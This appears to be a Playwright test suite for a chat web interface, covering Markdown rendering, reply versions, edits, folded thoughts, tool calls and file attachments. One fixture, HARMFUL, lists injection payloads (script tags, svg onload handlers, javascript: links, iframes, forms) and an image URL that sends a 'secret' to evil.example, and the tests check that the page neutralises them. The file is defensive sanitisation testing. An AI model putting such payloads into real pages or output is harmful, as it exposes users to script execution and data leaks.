"""Messages on the page: Markdown made harmless, versions, thoughts, calls and files."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from on_page import answer_with, asked, questions, replies, say, stream, talk, wait_for_replies
from running import RunningServer

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
expect = playwright.expect
pytestmark = pytest.mark.slow

MARKDOWN = """# Head
**bold** and `code`

| a | b |
|---|--:|
| 1 | 2<br>3 |

```python
def f():
    return "text"
```
"""

HARMFUL = """![](http://evil.example/?q=secret) <img src=http://evil.example/2> <svg onload=alert(1)>
[a](javascript:alert(1)) [b](data:text/html,x) [c](https://fine.example) <a href="/x" onclick=alert(1)>d</a>

<script>alert(1)</script>
<style>body { display: none }</style>
<iframe src="http://evil.example/3"></iframe>
<form action="http://evil.example/4"><button>send</button></form>

[ref]: http://evil.example/5
![ref]
"""


def test_markdown_is_shown_with_tables_and_coloured_code(page: Any, echo: RunningServer) -> None:
    talk(page, echo.url, MARKDOWN)
    text = page.locator(".message.assistant .text")
    assert text.locator("h3").inner_text() == "Head"
    assert text.locator("strong").inner_text() == "bold"
    assert text.locator("td").all_inner_texts() == ["1", "2\n3"]
    assert text.locator("td").nth(1).get_attribute("align") == "right"
    expect(text.locator("pre .hljs-keyword").first).to_have_text("def")
    assert text.locator("pre").inner_text() == 'def f():\n    return "text"\n'


def test_what_a_model_says_runs_and_fetches_nothing(page: Any, echo: RunningServer) -> None:
    """The fixture fails for every request to another host, and for every error of a script."""
    page.on("dialog", lambda dialog: pytest.fail("a script has run"))
    talk(page, echo.url, HARMFUL)
    text = page.locator(".message.assistant .text")
    assert text.locator(":is(img, svg:not(.glyph), script, style, iframe, form, [onclick])").count() == 0
    links = text.locator("a[href]")
    assert links.evaluate_all("links => links.map(link => link.getAttribute('href'))") == [
        "http://evil.example/?q=secret",
        "https://fine.example",
        "http://evil.example/5",
    ]
    assert set(links.evaluate_all("links => links.map(link => link.rel)")) == {"noopener noreferrer"}
    assert "<script>alert(1)</script>" in text.inner_text()


def test_text_grows_block_by_block(page: Any, echo: RunningServer) -> None:
    """Blocks that are whole stay the elements that they are."""
    engine = echo.engine
    engine.step = 0.002
    page.goto(echo.url)
    say(page, "first\n\n" + "word " * 60)
    page.wait_for_selector(".message.assistant .block:nth-child(2)")
    page.evaluate("document.querySelector('.message.assistant .block').dataset.seen = 'yes'")
    wait_for_replies(page, 1)
    engine.step = 0.0
    assert page.locator(".message.assistant [data-seen]").inner_text() == "first"


def test_messages_and_code_are_copied(page: Any, echo: RunningServer) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    talk(page, echo.url, MARKDOWN)
    page.click(".message.assistant .tools .copy")
    expect(page.locator("#announcement")).to_have_text("Copied.")
    assert page.evaluate("navigator.clipboard.readText()") == MARKDOWN.strip()
    page.click(".message.assistant .code .copy")
    expect(page.locator(".message.assistant .code .copy use")).to_have_attribute("href", "#i-check")
    assert page.evaluate("navigator.clipboard.readText()") == 'def f():\n    return "text"\n'


def test_another_reply_is_another_version(page: Any, echo: RunningServer) -> None:
    talk(page, echo.url, "one")
    answer_with(page, **stream({"delta": {"content": "two"}, "finish_reason": "stop"}))
    page.click(".again")
    expect(page.locator(".versions span")).to_have_text("2 of 2")
    assert replies(page) == ["two"]
    page.click(".versions .back")
    assert replies(page) == ["one"]
    page.reload()
    wait_for_replies(page, 1)
    assert replies(page) == ["one"]
    assert page.inner_text(".versions span") == "1 of 2"


def test_an_edited_question_is_a_version_and_the_old_one_stays(page: Any, echo: RunningServer) -> None:
    talk(page, echo.url, "one", "two")
    page.click(".message.user >> nth=0 >> .edit")
    page.fill(".editor textarea", "uno")
    page.press(".editor textarea", "Enter")
    wait_for_replies(page, 1)
    assert (questions(page), replies(page)) == (["uno"], ["uno"])
    page.click(".message.user .back")
    assert questions(page) == ["one", "two"]
    page.click(".message.user >> nth=0 >> .edit")
    page.fill(".editor textarea", "gone")
    page.press(".editor textarea", "Escape")
    assert questions(page) == ["one", "two"]


def test_an_edit_that_is_refused_is_in_its_editor_again(page: Any, echo: RunningServer) -> None:
    talk(page, echo.url, "one")
    answer_with(page, status=503, json={"error": {"message": "not now"}})
    page.click(".message.user .edit")
    page.fill(".editor textarea", "long thought")
    page.press(".editor textarea", "Enter")
    expect(page.locator("#problem")).to_contain_text("not now")
    assert page.input_value(".editor textarea") == "long thought"
    assert replies(page) == ["one"]


def test_stop_before_the_first_word_gives_the_message_back(page: Any, echo: RunningServer) -> None:
    page.goto(echo.url)
    echo.engine.hold = asyncio.Event()
    say(page, "wait")
    page.click("#stop")
    expect(page.locator("#draft")).to_have_value("wait")
    echo.call(echo.engine.hold.set)
    echo.engine.hold = None
    assert page.locator(".message").count() == 0


def test_thoughts_are_folded(page: Any, echo: RunningServer) -> None:
    talk(page, echo.url, "<think>\nBonn, I think.\n</think>\n\nIt rains.")
    assert replies(page) == ["It rains."]
    expect(page.locator(".thoughts .markdown")).not_to_be_visible()
    page.click(".thoughts summary")
    expect(page.locator(".thoughts .markdown")).to_have_text("Bonn, I think.")
    bodies = asked(page)
    say(page, "more")
    wait_for_replies(page, 2)
    assert bodies[0]["messages"][1] == {
        "role": "assistant",
        "content": "It rains.",
        "reasoning_content": "Bonn, I think.",
    }


def test_a_call_is_shown_and_its_result_goes_back(page: Any, echo: RunningServer) -> None:
    page.goto(echo.url)
    call = {"index": 0, "id": "call_1", "type": "function", "function": {"name": "weather", "arguments": '{"city":'}}
    rest = {"index": 0, "function": {"arguments": '"Bonn"}'}}
    answer_with(
        page,
        **stream({"delta": {"tool_calls": [call]}}, {"delta": {"tool_calls": [rest]}, "finish_reason": "tool_calls"}),
    )
    say(page, "Is it warm?")
    expect(page.locator(".call summary")).to_have_text("Call of weather")
    assert page.inner_text(".call pre") == '{\n  "city": "Bonn"\n}'
    answer_with(page, status=503, json={"error": {"message": "not now"}})
    page.fill(".results textarea", "20 degrees")
    page.click(".results button")
    expect(page.locator("#problem")).to_contain_text("not now")
    assert page.input_value(".results textarea") == "20 degrees"
    bodies = asked(page)
    page.click(".results button")
    wait_for_replies(page, 2)
    function = {"name": "weather", "arguments": '{"city":"Bonn"}'}
    assert bodies[0]["messages"][1:] == [
        {
            "role": "assistant",
            "content": "",
            "tool_calls": [{"id": "call_1", "type": "function", "function": function}],
        },
        {"role": "tool", "content": "20 degrees", "tool_call_id": "call_1"},
    ]


def test_text_files_go_along_and_others_are_refused(page: Any, echo: RunningServer, tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("print('```')")
    (tmp_path / "b.png").write_bytes(b"\x89PNG\x00\x01")
    (tmp_path / "c.txt").write_bytes(b"caf\xe9")
    (tmp_path / "d.log").write_bytes(b"x" * (1024**2 + 1))
    page.goto(echo.url)
    page.set_input_files("#attach-files", [tmp_path / name for name in ("a.py", "b.png", "c.txt", "d.log")])
    problem = page.locator("#attach-problem")
    expect(problem).to_contain_text("b.png is not text in UTF-8; only text can be attached.")
    expect(problem).to_contain_text("c.txt is not text")
    expect(problem).to_contain_text("d.log has 1.00 MiB; attach at most 1.00 MiB a file.")
    expect(page.locator("#files .chip")).to_have_text(["a.py · 12 B"])
    page.reload()
    expect(page.locator("#files .chip")).to_have_text(["a.py · 12 B"])
    bodies = asked(page)
    say(page, "Explain this")
    wait_for_replies(page, 1)
    assert bodies[0]["messages"] == [{"role": "user", "content": "Explain this\n\na.py:\n````\nprint('```')\n````"}]
    expect(page.locator("#files .chip")).to_have_count(0)
    page.click(".message.user .chip summary")
    assert page.inner_text(".message.user .chip pre") == "print('```')"
